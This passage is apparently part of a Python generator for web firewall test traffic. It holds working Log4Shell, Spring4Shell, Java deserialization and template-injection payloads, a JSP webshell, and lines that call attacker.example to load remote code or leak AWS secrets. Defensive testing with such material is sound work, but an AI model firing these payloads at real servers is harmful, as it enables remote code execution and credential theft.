    (latin(SER_PROTO_CLONE), "binlc"),
    ("<java><object class=\"java.io.FileWriter\"><string>/var/www/html/s.jsp</string><void method=\"write\">"
     "<string>&lt;% out.println(42); %&gt;</string></void><void method=\"close\"/></object></java>", "xdoc"),
    ("${T(java.lang.System).getProperty('user.dir')}", "plain"),
    ("%{@java.lang.System@getProperty('java.home')}", "plain"),
    ("new java.beans.XMLDecoder(new java.io.ByteArrayInputStream(request.getParameter(\"x\").getBytes()))"
     ".readObject()", "plain"),
    ("<org.apache.commons.collections.functors.ForClosure><iCount>3</iCount><iClosure class=\"org.apache."
     "commons.collections.functors.WhileClosure\"><iDoLoop>true</iDoLoop></iClosure>"
     "</org.apache.commons.collections.functors.ForClosure>", "xdoc"),
    ("new java.io.FileWriter(\"/tmp/x.jsp\").append(\"<% out.println(1); %>\").close()", "plain"),
    ("System.getProperty(\"os.name\") + java.beans.XMLDecoder.class", "plain"),
    ("<object class=\"java.io.&#x46;ileWriter\"><string>/opt/tomcat/webapps/ROOT/a.jsp</string></object>",
     "xfrag"),
]

JAVA_SUSPICIOUS_CLASS: list[Payload] = [
    ("${new java.util.Scanner(new java.io.File(\"/etc/passwd\")).useDelimiter(\"\\\\Z\").next()}", "plain"),
    ("#{new java.io.FileOutputStream('/var/www/shell.jsp').write('x'.getBytes())}", "plain"),
    ("%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].getWriter().println('x')}", "plain"),
    ("new javax.script.ScriptEngineManager().getEngineByName(\"nashorn\").eval(\"1+1\")", "plain"),
    ("T(java.lang.System).getenv()", "plain"),
    ("@java.lang.reflect.Array@newInstance(@java.lang.Class@forName('java.lang.String'), 1)", "plain"),
    ("{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example:1389/a\","
     "\"autoCommit\":true}", "jdoc"),
    ("%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@org.apache.commons.io.IOUtils@toString("
     "new java.io.FileInputStream('/etc/passwd')))}", "plain"),
    ("new java.io.BufferedReader(new java.io.InputStreamReader(p.getInputStream())).readLine()", "plain"),
    ("new java.beans.XMLDecoder(new java.io.ByteArrayInputStream(b)).readObject()", "plain"),
    ("''.getClass().forName('java'+'.io.'+'File').getConstructor(''.getClass()).newInstance('/etc/passwd')",
     "plain"),
    ("{\"@type\":\"Lcom.sun.rowset.JdbcRowSetImpl;\",\"dataSourceName\":\"rmi://attacker.example/a\","
     "\"autoCommit\":true}", "jdoc"),
    ("{\"\\u0040\\u0074ype\":\"com.sun.rowset.\\u004adbcRowSetImpl\",\"dataSourceName\":"
     "\"ldap://attacker.example/a\",\"autoCommit\":true}", "jdoc"),
    ("{\"\\x40type\":\"org.apache.xbean.propertyeditor.JndiConverter\",\"asText\":\"ldap://attacker.example/a\"}",
     "jdoc"),
    ("new java.io.PrintStream(new java.io.FileOutputStream(\"/tmp/a\")).println(\"x\")", "plain"),
]

HEX_HASHMAP = SER_HASHMAP.hex()
JAVA_MAGIC: list[Payload] = [
    (latin(SER_HASHMAP), "bin"),
    (latin(SER_STRING), "bin"),
    (latin(SER_OBJARRAY), "bin"),
    (latin(SER_AIH), "bin"),
    (latin(SER_BAVE), "bin"),
    (latin(SER_PQ), "bin"),
    (latin(SER_BLOCK), "bin"),
    (latin(SER_URL), "bin"),
    (latin(SER_HASHSET), "bin"),
    (latin(SER_TEMPLATES), "binlc"),
    (latin(SER_HASHMAP), "bin2"),
    (HEX_HASHMAP.upper(), "plain"),
    (HEX_HASHMAP, "plain"),
    (latin(stream(b"p")), "binlc"),
]

SER_B64_PREFIX1 = base64.b64encode(b"\x01" + SER_HASHMAP).decode()
SER_B64_PREFIX2 = base64.b64encode(b"\x00\x01" + SER_PQ).decode()
LONG_CHAIN_B64 = b64(SER_CC1)
JAVA_MAGIC_B64: list[Payload] = [
    (b64(SER_HASHMAP), "plain"),
    (b64(SER_STRING), "plain"),
    (b64(SER_OBJARRAY), "plain"),
    (b64(SER_PQ), "plain"),
    (b64(SER_BAVE), "plain"),
    (b64(SER_URL), "plain"),
    (base64.urlsafe_b64encode(SER_CC5).decode(), "plain"),
    (SER_B64_PREFIX1, "plain"),
    (SER_B64_PREFIX2, "plain"),
    (_mime_wrap(LONG_CHAIN_B64), "plain"),
    (LONG_CHAIN_B64[:5] + " " + LONG_CHAIN_B64[5:40] + " " + LONG_CHAIN_B64[40:], "plain"),
    (b64(SER_AIH).rstrip("="), "plain"),
    (urllib.parse.quote(urllib.parse.quote(b64(SER_TEMPLATES), safe=""), safe=""), "wire"),
    ("\\u0072O0AB" + b64(SER_HASHMAP)[5:], "jraw"),
]

JAVA_METHOD: list[Payload] = [
    ("java.lang.Runtime.getRuntime().exec(\"id\")", "plain"),
    ("Class.forName(\"java.lang.Runtime\").getMethod(\"getRuntime\").invoke(null)", "plain"),
    ("\"\".getClass().forName(\"java.lang.ProcessBuilder\").getConstructors()[0].newInstance(new Object[]{"
     "new String[]{\"id\"}}).start()", "plain"),
    ("${request.getClass().getClassLoader().loadClass(\"java.lang.Runtime\")}", "plain"),
    ("x.getClass().getDeclaredMethod(\"exec\", String.class).setAccessible(true)", "plain"),
    ("java.lang.reflect.Method m = Runtime.class.getMethod(\"exec\", String.class); "
     "m.invoke(Runtime.getRuntime(), \"id\");", "plain"),
    ("println \"cat /etc/passwd\".execute().text", "plain"),
    ("Runtime.getRuntime().exec(new String[]{\"/bin/sh\",\"-c\",\"id\"})", "plain"),
    ("new ProcessBuilder(\"id\").redirectErrorStream(true).start()", "plain"),
    ("Runtime . getRuntime ( ) . exec ( \"id\" )", "plain"),
    ("Runtime/**/.getRuntime/**/()/**/.exec(\"id\")", "plain"),
    ("Class.forName(\"java.lang.Run\"+\"time\").getMethod(\"ex\"+\"ec\",String.class)", "plain"),
    ("java.lang.Runtime.class.getMethod(\"exec\", String.class).invoke(java.lang.Runtime.class"
     ".getMethod(\"getRuntime\").invoke(null), \"id\")", "plain"),
    ("MethodHandles.lookup().findVirtual(Runtime.class, \"exec\", MethodType.methodType(Process.class, "
     "String.class)).invoke(Runtime.getRuntime(), \"id\")", "plain"),
    ("\\u0052untime.getRuntime().exec(\"id\")", "plain"),
]

LOG4J: list[Payload] = [
    ("${jndi:ldap://attacker.example:1389/a}", "plain"),
    ("${jndi:rmi://attacker.example:1099/obj}", "plain"),
    ("${jndi:dns://attacker.example/x}", "plain"),
    ("${jndi:ldaps://attacker.example/a}", "plain"),
    ("${jndi:iiop://attacker.example/a}", "plain"),
    ("${${lower:j}ndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}", "plain"),
    ("${JnDi:LdAp://attacker.example/a}", "plain"),
    ("${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://attacker.example/a}", "plain"),
    ("${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//attacker.example/a}", "plain"),
    ("${jndi:ldap://127.0.0.1#attacker.example:1389/a}", "plain"),
    ("${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://attacker.example/a}", "plain"),
    ("${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.attacker.example/a}", "plain"),
    ("${${k8s:k5:-J}${k8s:k5:-ND}i${sd:k5:-:}ldap://attacker.example/a}", "plain"),
    ("%2524%257Bjndi%253Aldap%253A%252F%252Fattacker.example%252Fa%257D", "wire"),
    ("$%7Bjndi:ldap://attacker.example/a%7D", "wire"),
    ("${jnd\\u0069:ldap://attacker.example/a}", "jraw"),
    ("&#36;&#123;jndi:ldap://attacker.example/a&#125;", "xfrag"),
]

SPRING4SHELL = "class.module.classLoader.resources.context.parent.pipeline.first."
JAVA_CLASS_LOADING: list[Payload] = [
    (SPRING4SHELL + "pattern=%25%7Bc2%7Di%20if(%22j%22.equals(request.getParameter(%22pwd%22)))%7B%7D", "qs"),
    (SPRING4SHELL + "suffix=.jsp&" + SPRING4SHELL + "directory=webapps/ROOT&" + SPRING4SHELL + "prefix=tomcatwar&"
     + SPRING4SHELL + "fileDateFormat=", "qs"),
    ("Class.Module.ClassLoader.Resources.Context.Parent.Pipeline.First.Pattern=x", "qs"),
    ("class.classLoader.URLs[0]=jar:http://attacker.example/spring-exploit.jar!/", "qs"),
    ("class['classLoader'].resources.dirContext.docBase=//attacker.example/share", "qs"),
    ("class.classLoader.defaultAssertionStatus=true", "qs"),
    ("class%2Emodule%2EclassLoader%2EDefaultAssertionStatus=true", "qs"),
    ("new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL(\"http://attacker.example/x.jar\")})"
     ".loadClass(\"Exploit\").newInstance()", "plain"),
    ("{\"@type\":\"org.apache.tomcat.dbcp.dbcp2.BasicDataSource\",\"driverClassLoader\":{\"@type\":"
     "\"com.sun.org.apache.bcel.internal.util.ClassLoader\"},\"driverClassName\":\"$$BCEL$$$l$8b$I$A$A$A$A$A$A"
     "$A$8dQ$cbN$c2$40$U$3d$D$85\"}", "jdoc"),
    ("{\"@type\":\"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl\",\"_bytecodes\":[\""
     + b64(JAVA_CLASS_FILE) + "\"],\"_name\":\"a\",\"_tfactory\":{},\"_outputProperties\":{}}", "jdoc"),
    ("T(org.springframework.cglib.core.ReflectUtils).defineClass('Exploit', T(org.springframework.util."
     "Base64Utils).decodeFromString('" + b64(JAVA_CLASS_FILE) + "'), T(java.lang.Thread).currentThread()"
     ".getContextClassLoader())", "plain"),
    ("@GrabConfig(disableChecksums=true)\n@GrabResolver(name='x', root='http://attacker.example/')\n"
     "@Grab(group='x', module='x', version='1')\nimport Exploit;", "plain"),
    ("new javax.management.loading.MLet().getMBeansFromURL('http://attacker.example/mlet')", "plain"),
    ("jar:http://attacker.example/x.jar!/Exploit.class", "plain"),
    ("this.class.classLoader.parseClass('class X { static { \"id\".execute() } }').newInstance()", "plain"),
]

JAVA_UPLOAD: list[Payload] = [
    ("shell.jsp", "file"),
    ("cmd.jspx", "file"),
    ("inc.jspf", "file"),
    ("x.jsw", "file"),
    ("x.jsv", "file"),
    ("shell.JSP", "file"),
    ("shell.jSpX", "file"),
    ("shell.jsp%00.jpg", "file"),
    ("shell.jsp;.jpg", "file"),
    ("shell.jsp.", "file"),
    ("shell.jsp::$DATA", "file"),
    ("../../webapps/ROOT/shell.jsp", "file"),
    ("shell.jsp ", "file"),
    ("avatar.jpg.jsp", "file"),
    ("filename*=UTF-8''shell%2Ejsp", "cd"),
    ("filename=\"avatar.png\"; filename=\"shell.jsp\"", "cd"),
]

# ---------------------------------------------------------------------------------------------------------------
# server-side template injection
JINJA2: list[Payload] = [
    ("{{7*'7'}}", "plain"),
    ("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "plain"),
    ("{{''.__class__.__mro__[1].__subclasses__()}}", "plain"),
    ("{{self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read()}}", "plain"),
    ("{{lipsum.__globals__.os.popen('id').read()}}", "plain"),
    ("{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}", "plain"),
    ("{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')"
     "('\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')"
     "|attr('popen')('id')|attr('read')()}}", "plain"),
    ("{% for x in ().__class__.__base__.__subclasses__() %}{% if \"warning\" in x.__name__ %}"
     "{{x()._module.__builtins__['__import__']('os').popen(\"id\").read()}}{% endif %}{% endfor %}", "plain"),
    ("{{()|attr('__cla'~'ss__')|attr('__ba'~'se__')|attr('__subcla'~'sses__')()}}", "plain"),
    ("{{request['__cl''ass__']['__mr''o__']}}", "plain"),
    ("{{url_for.__globals__.os.environ}}", "plain"),
    ("{{get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read()}}", "plain"),
    ("{{-\ncycler.__init__.__globals__.os.popen('id').read()\n-}}", "plain"),
    ("\\u007b\\u007bconfig.__class__.__init__.__globals__[\\u0027os\\u0027].popen(\\u0027id\\u0027).read()"
     "\\u007d\\u007d", "jraw"),
    ("{{namespace.__init__.__globals__.os.popen('id').read()}}", "plain"),
]
TWIG: list[Payload] = [
    ("{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}", "plain"),
    ("{{['id']|filter('system')}}", "plain"),
    ("{{['id']|map('system')|join}}", "plain"),
    ("{{['cat /etc/passwd']|filter('passthru')}}", "plain"),
    ("{{[0]|reduce('system','id')}}", "plain"),
    ("{{['id','']|sort('system')|join}}", "plain"),
    ("{{app.request.server.all|join(',')}}", "plain"),
    ("{{'/etc/passwd'|file_excerpt(1,30)}}", "plain"),
    ("{{_self.env.setCache(\"ftp://attacker.example:2121\")}}{{_self.env.loadTemplate(\"backdoor\")}}", "plain"),
    ("{{ ['id'] | filter ( 'system' ) }}", "plain"),
    ("{{['i'~'d']|filter('sys'~'tem')}}", "plain"),
    ("{%set a='sys'~'tem'%}{{['id']|map(a)|join}}", "plain"),
    ("{{[\"id\"]|filter(\"\\x73ystem\")}}", "plain"),
    ("{%\nset x = ['id']|map('passthru')|join\n%}", "plain"),
    ("\\u007b\\u007b[\\u0027id\\u0027]|filter(\\u0027system\\u0027)\\u007d\\u007d", "jraw"),
]
FM_EXEC = "freemarker.template.utility.Execute"
FREEMARKER: list[Payload] = [
    ("<#assign ex=\"" + FM_EXEC + "\"?new()>${ex(\"id\")}", "plain"),
    ("${\"" + FM_EXEC + "\"?new()(\"id\")}", "plain"),
    ("[#assign ex='" + FM_EXEC + "'?new()]${ex('id')}", "plain"),
    ("<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>"
     "${ob(\"java.lang.ProcessBuilder\",\"id\").start()}", "plain"),
    ("<#assign jt=\"freemarker.template.utility.JythonRuntime\"?new()><@jt>import os;os.system(\"id\")</@jt>",
     "plain"),
    ("${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/etc/passwd')"
     ".toURL().openStream().readAllBytes()?join(\" \")}", "plain"),
    ("<#assign cl=article?api.class.protectionDomain.classLoader><#assign owc=cl.loadClass(\"freemarker.template."
     "ObjectWrapper\")>${owc}", "plain"),
    ("${\"" + FM_EXEC + "\"?new()(\"cat /etc/passwd\")}", "plain"),
    ("<#assign c=\"freemarker.template.utility.Ex\"+\"ecute\"><#assign ex=c?new()>${ex(\"id\")}", "plain"),
    ("<#assign\nex = \"" + FM_EXEC + "\"?new()\n>${ ex ( \"id\" ) }", "plain"),
    ("<#assign ex=\"freemarker.template.utility.\\x45xecute\"?new()>${ex(\"id\")}", "plain"),
    ("<#if 1==1>${\"" + FM_EXEC + "\"?new()(\"whoami\")}</#if>", "plain"),
    ("<#assign ex=\"" + FM_EXEC + "\"?new()><#list [\"id\"] as c>${ex(c)}</#list>", "plain"),
    ("\\u003c#assign ex=\\u0022" + FM_EXEC + "\\u0022?new()\\u003e${ex(\\u0022id\\u0022)}", "jraw"),
]
VELOCITY: list[Payload] = [
    ("#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null)"
     ".exec(\"id\")", "plain"),
    ("#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))", "plain"),
    ("$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\").waitFor()", "plain"),
    ("#set($str=$class.inspect(\"java.lang.String\").type)#set($chr=$class.inspect(\"java.lang.Character\").type)"
     "#set($ex=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"whoami\"))$ex.waitFor()"
     "#set($out=$ex.getInputStream())#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))"
     "#end", "plain"),
    ("#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime().exec('id'))"
     "$ex.waitFor()", "plain"),
    ("#set($cl=$request.getClass().getClassLoader())$cl.loadClass(\"java.lang.Runtime\")", "plain"),
    ("$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('id')",
     "plain"),
    ("#set( $rt = $x.getClass().forName( \"java.lang.Runtime\" ) )#set( $p = $rt.getRuntime().exec( \"id\" ) )",
     "plain"),
    ("#{set}($e=\"\")#{set}($rt=$e.class.forName(\"java.lang.Runtime\"))$rt.getRuntime().exec(\"id\")", "plain"),
    ("$!{e.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"id\")}", "plain"),
    ("#set($p=\"java.lang\")#set($n=\"${p}.Runtime\")#set($rt=$e.getClass().forName($n))"
     "$rt.getRuntime().exec(\"id\")", "plain"),
    ("#set($x='')## comment\n#set($rt=$x.class.forName('java.lang.Runtime'))## more\n$rt.getRuntime().exec('id')",
     "plain"),
    ("#set($x=7*7)${x}#set($s=$x.getClass().forName('java.lang.System'))$s.getenv()", "plain"),
    ("#set($x='')+#set($rt=$x.class.forName('java.lang.Runtime'))+#set($chr=$x.class.forName('java.lang."
     "Character'))+#set($str=$x.class.forName('java.lang.String'))+#set($ex=$rt.getRuntime().exec('id'))"
     "+$ex.waitFor()", "plain"),
]
TL_RT = "T(java.lang.Runtime).getRuntime().exec(\"id\")"
THYMELEAF: list[Payload] = [
    ("__${" + TL_RT + "}__::.x", "plain"),
    ("__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream()).next()}__::.x",
     "plain"),
    ("[[${T(java.lang.Runtime).getRuntime().exec('id')}]]", "plain"),
    ("[(${T(java.lang.System).getenv()})]", "plain"),
    ("*{T(java.lang.Runtime).getRuntime().exec('id')}", "plain"),
    ("__*{" + TL_RT + "}__::.x", "plain"),
    ("${#rt = @java.lang.Runtime@getRuntime(),#rt.exec(\"calc\")}", "plain"),
    ("__${T (java.lang.Runtime).getRuntime().exec(\"id\")}__::.x", "plain"),
    ("__|$${" + TL_RT + "}|__::.x", "plain"),
    ("__${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass()"
     ".forName('java.lang.Runtime').getMethod('getRuntime').invoke(null),'id')}__::.x", "plain"),
    ("__${T(org.springframework.util.StreamUtils).copyToString(T(java.lang.Runtime).getRuntime().exec('id')"
     ".getInputStream(),T(java.nio.charset.Charset).forName('UTF-8'))}__::.x", "plain"),
    ("~{::__${T(java.lang.Runtime).getRuntime().exec('id')}__}", "plain"),
    ("__${T(java.lang.Runtime)\n.getRuntime()\n.exec('id')}__::.x", "plain"),
    ("<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>", "plain"),
    ("__\\u0024\\u007bT(java.lang.Runtime).getRuntime().exec(\\u0022id\\u0022)\\u007d__::.x", "jraw"),
]
ERB: list[Payload] = [
    ("<%= system('id') %>", "plain"),
    ("<%= `id` %>", "plain"),
    ("<%= IO.popen('id').readlines() %>", "plain"),
    ("<%= File.open('/etc/passwd').read %>", "plain"),
    ("<%= Dir.entries('/') %>", "plain"),
    ("<%= 7*7 %>", "plain"),
    ("<%= require 'open3'; Open3.capture2('id') %>", "plain"),
    ("<%= Kernel.send(:system, 'id') %>", "plain"),
    ("<%=%x(id)%>", "plain"),
    ("<%=\tsystem(\"id\")\t%>", "plain"),
    ("<%= eval(\"sys\"+\"tem('id')\") %>", "plain"),
    ("<%= send(\"\\x73ystem\", \"id\") %>", "plain"),
    ("<%- system('id') -%>", "plain"),
    ("<%= Object.const_get('Kernel').public_send('system','id') %>", "plain"),
    ("\\u003c%= `id` %\\u003e", "jraw"),
]
SMARTY: list[Payload] = [
    ("{system('id')}", "plain"),
    ("{php}echo `id`;{/php}", "plain"),
    ("{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\","
     "self::clearConfig())}", "plain"),
    ("{if system('id')}{/if}", "plain"),
    ("{if phpinfo()}{/if}", "plain"),
    ("{$s=system('id')}", "plain"),
    ("{include file='/etc/passwd'}", "plain"),
    ("{fetch file='/etc/passwd'}", "plain"),
    ("{passthru(\"cat /etc/passwd\")}", "plain"),
    ("{'id'|system}", "plain"),
    ("{math equation=\"(\\\"\\163\\171\\163\\164\\145\\155\\\")(\\\"\\151\\144\\\")\"}", "plain"),
    ("{function name='x(){};system(\"id\");function '}{/function}", "plain"),
    ("{system(\n'id'\n)}", "plain"),
    ("{$smarty.version}{shell_exec('id')}", "plain"),
    ("\\u007bsystem(\\u0027id\\u0027)\\u007d", "jraw"),
]
HB_CODE = "return require('child_process').execSync('id');"


def handlebars(code: str, sep: str = "", tilde: bool = False) -> str:
    o, c = ("{{~", "~}}") if tilde else ("{{", "}}")
    lines = [f"{o}#with \"s\" as |string|{c}", f"{o}#with \"e\"{c}", f"{o}#with split as |conslist|{c}",
             f"{o}this.pop{c}", f"{o}this.push (lookup string.sub \"constructor\"){c}", f"{o}this.pop{c}",
             f"{o}#with string.split as |codelist|{c}", f"{o}this.pop{c}", f"{o}this.push \"{code}\"{c}",
             f"{o}this.pop{c}", f"{o}#each conslist{c}", f"{o}#with (string.sub.apply 0 codelist){c}",
             f"{o}this{c}", f"{o}/with{c}", f"{o}/each{c}", f"{o}/with{c}", f"{o}/with{c}", f"{o}/with{c}",
             f"{o}/with{c}"]
    return sep.join(lines)


HANDLEBARS: list[Payload] = [
    (handlebars(HB_CODE, "\n"), "plain"),
    (handlebars(HB_CODE), "plain"),
    (handlebars("return process.mainModule.require('child_process').execSync('whoami');", "\n  "), "plain"),
    (handlebars("return global.process.mainModule.constructor._load('child_process').execSync('id');", " "),
     "plain"),
    (handlebars(HB_CODE, "\n", tilde=True), "plain"),
    (handlebars("return require('fs').readFileSync('/etc/passwd','utf8');"), "plain"),
    ("{{#with this as |obj|}}{{#with (lookup obj \"constructor\")}}{{#with (lookup this \"constructor\")}}"
     "{{this \"return process.mainModule.require('child_process').execSync('id')\"}}{{/with}}{{/with}}{{/with}}",
     "plain"),
    ("{{lookup (lookup this \"constructor\") \"constructor\"}}", "plain"),
    ("{{{lookup this \"__proto__\"}}}", "plain"),
    ("{{this.constructor.constructor \"return process.env\"}}", "plain"),
    ("{{!-- x --}}" + handlebars(HB_CODE, "{{!-- y --}}"), "plain"),
    (handlebars("return eval(String.fromCharCode(" + char_codes(CP_ID) + "));"), "plain"),
    (handlebars(HB_CODE).replace("{{", "\\u007b\\u007b").replace("\"", "\\u0022").replace("'", "\\u0027"),
     "jraw"),
    ("{{#each this}}{{@key}}={{this}} {{/each}}{{#with (lookup this.__proto__ \"constructor\")}}{{name}}{{/with}}",
     "plain"),
]
PUG: list[Payload] = [
    ("#{root.process.mainModule.require('child_process').spawnSync('id').stdout}", "plain"),
    ("- var x = root.process.mainModule.require('child_process').execSync('id')", "plain"),
    ("= global.process.mainModule.require('child_process').execSync('id')", "plain"),
    ("#{7*7}", "plain"),
    ("#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad(\"child_process\")"
     ".exec('id')}()}", "plain"),
    ("- global.process.mainModule.require('child_process').exec('curl attacker.example/x|sh')", "plain"),
    ("!{root.process.mainModule.require('fs').readFileSync('/etc/passwd')}", "plain"),
    ("a(href=global.process.mainModule.require('child_process').execSync('id'))", "plain"),
    ("p hello\n- var x = global.process\n= x.mainModule.require('child_process').execSync('id')", "plain"),
    ("#{global['pro'+'cess']['mainModule']['require']('child_'+'process')['execSync']('id')}", "plain"),
    ("{\"__proto__\":{\"block\":{\"type\":\"Text\",\"line\":\"process.mainModule.require('child_process')"
     ".execSync('id')\"}}}", "jdoc"),
    ("#{this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}",
     "plain"),
    ("#{ root . process . mainModule . require ( 'child_process' ) . execSync ( 'id' ) }", "plain"),
    ("\\u0023{root.process.mainModule.require(\\u0027child_process\\u0027).execSync(\\u0027id\\u0027)}", "jraw"),
]

TITLES: list[tuple[str, str, list[Payload]]] = [
    ("generic", "nodejs-injection", NODEJS_INJECTION),
    ("generic", "nodejs-injection-2", NODEJS_INJECTION_2),
    ("generic", "ssrf-cloud-metadata-url", SSRF_METADATA),
    ("generic", "ssrf-url-ip-address", SSRF_IP),
    ("generic", "javascript-prototype-pollution", PROTOTYPE_POLLUTION),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "php-data-scheme", PHP_DATA),
    ("java", "java-class-rce", JAVA_CLASS_RCE),
    ("java", "java-process-spawn", JAVA_PROCESS_SPAWN),
    ("java", "java-serialization-rce", JAVA_SERIALIZATION),
    ("java", "java-suspicious-class", JAVA_SUSPICIOUS_CLASS),
    ("java", "java-magic-bytes", JAVA_MAGIC),
    ("java", "java-magic-bytes-base64", JAVA_MAGIC_B64),
    ("java", "java-serialization-rce-pl2", JAVA_SERIALIZATION_PL2),
    ("java", "java-suspicious-method", JAVA_METHOD),
    ("java", "log4j-log4shell", LOG4J),
    ("java", "java-class-loading", JAVA_CLASS_LOADING),
    ("java", "java-script-file-upload", JAVA_UPLOAD),
    ("ssti", "ssti-jinja2", JINJA2),
    ("ssti", "ssti-twig", TWIG),
    ("ssti", "ssti-freemarker", FREEMARKER),
    ("ssti", "ssti-velocity", VELOCITY),
    ("ssti", "ssti-thymeleaf", THYMELEAF),
    ("ssti", "ssti-erb", ERB),
    ("ssti", "ssti-smarty", SMARTY),
    ("ssti", "ssti-handlebars", HANDLEBARS),
    ("ssti", "ssti-pug", PUG),
]

# ---------------------------------------------------------------------------------------------------------------
# placements
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
OUR_NAMES = ["q", "name", "url", "callback", "template", "data", "redirect", "filter", "lang", "payload", "next"]
OURS_PLAIN = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Api-Version",
              "param-name", "xml", "multipart-field", "path"]
RS_PLAIN = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw", "rs-header:User-Agent", "rs-header:Referer",
            "rs-header:X-Custom-Header", "rs-cookie"]
URLISH = (["query", "form", "cookie"], ["rs-query", "rs-form", "rs-cookie"])
MODES: dict[str, tuple[list[str], list[str]]] = {
    "plain": (OURS_PLAIN, RS_PLAIN),
    "wire": URLISH, "bin": URLISH, "binlc": URLISH, "bin2": URLISH,
    "jraw": (["json"], ["rs-json"]), "jdoc": (["json"], ["rs-json"]),
    "xfrag": (["xml"], ["rs-xml"]), "xdoc": (["xml"], ["rs-xml"]),
    "qs": (["param-name", "form"], ["rs-query", "rs-form"]),
    "file": (["multipart-filename"], ["rs-multipart-filename", "rs-path"]),
    "cd": (["multipart-filename"], ["rs-multipart-filename"]),
}
COOKIE_SAFE = "/:=(){}[]$'!*@.-_~<>|`#?&^,\""
BOUNDARY = "----WebKitFormBoundaryq7Zx3LbVn2Ty8Kd"
JSP_SHELL = ("<%@ page import=\"java.io.*\" %><% String c = request.getParameter(\"c\"); "
             "if (c != null) { Process p = Runtime.getRuntime().exec(c); } %>")
JSP_PROBE = "<% out.println(\"upload-check\"); %>"


def header_safe(text: str) -> bool:
    return all(32 <= ord(c) < 127 or c == "\t" for c in text)


def url_value(text: str, mode: str) -> str:
    """The text as it sits URL-encoded in a query, form body or cookie."""
    if mode == "wire":
        return text
    if mode in ("bin", "binlc", "bin2"):
        enc = urllib.parse.quote(text.encode("latin-1"), safe="")
        if mode == "binlc":
            return re.sub(r"%[0-9A-F]{2}", lambda m: m.group(0).lower(), enc)
        if mode == "bin2":
            return urllib.parse.quote(enc, safe="")
        return enc
    return urllib.parse.quote(text, safe="")


def cookie_value(text: str, mode: str) -> str:
    if mode == "plain":
        return urllib.parse.quote(text, safe=COOKIE_SAFE)
    return url_value(text, mode)


def _req(method: str, uri: str, body: str = "", ctype: str | None = None,
         extra: dict[str, str] | None = None) -> dict[str, Any]:
    headers = {"User-Agent": UA, "Accept": "*/*"}
    if ctype:
        headers["Content-Type"] = ctype
    headers.update(extra or {})
    return {"method": method, "uri": uri, "body": body, "headers": headers}


def json_body(fields: dict[str, str], name: str, text: str, mode: str) -> str:
    if mode == "jdoc":
        return text
    if mode == "jraw":
        head = json.dumps(fields, ensure_ascii=False)[:-1]
        return f'{head}, "{name}": "{text}"}}'
    return json.dumps({**fields, name: text}, ensure_ascii=False)


def xml_body(root: str, name: str, text: str, mode: str) -> str:
    if mode == "xdoc":
        return '<?xml version="1.0" encoding="UTF-8"?>\n' + text
    inner = text if mode == "xfrag" else escape(text)
    return f'<?xml version="1.0" encoding="UTF-8"?><{root}><{name}>{inner}</{name}></{root}>'


def multipart(parts: list[tuple[str, str, str | None]]) -> str:
    """Parts of (Content-Disposition tail after form-data; , content, content type)."""
    out = []
    for disp, content, ctype in parts:
        head = f"--{BOUNDARY}\r\nContent-Disposition: form-data; {disp}\r\n"
        if ctype:
            head += f"Content-Type: {ctype}\r\n"
        out.append(head + "\r\n" + content + "\r\n")
    return "".join(out) + f"--{BOUNDARY}--\r\n"


def file_disposition(text: str, mode: str) -> str:
    return 'name="file"; ' + (text if mode == "cd" else f'filename="{text}"')


MP_TYPE = f"multipart/form-data; boundary={BOUNDARY}"


def ours(place: str, text: str, mode: str, i: int) -> dict[str, Any]:
    name = OUR_NAMES[i % len(OUR_NAMES)]
    if place == "query":
        return _req("GET", f"/api/users?{name}={url_value(text, mode)}&page=1")
    if place == "form":
        body = "csrf_token=t0k3n&" + (text if mode == "qs" else f"{name}={url_value(text, mode)}")
        return _req("POST", "/admin/users/search", body, "application/x-www-form-urlencoded")
    if place == "json":
